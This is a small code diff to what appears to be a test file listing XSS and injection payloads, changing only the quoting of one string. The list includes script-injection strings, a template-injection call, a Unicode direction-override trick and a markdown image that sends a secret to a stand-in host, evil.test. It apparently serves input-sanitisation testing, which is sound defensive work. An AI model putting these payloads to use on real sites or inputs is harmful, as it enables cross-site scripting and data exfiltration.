@@ -38,7 +38,7 @@ PAYLOADS = (
     "![x](http://evil.test/?q=secret)",
     "<![CDATA[<script>alert(1)</script>]]>",
     "<!--<img src='--><img src=x onerror=alert(1)>'>",
-    "\"><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
     "';alert(1);//",
     "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
     "\u202e>tpircs/<)1(trela>tpircs<\u202c",
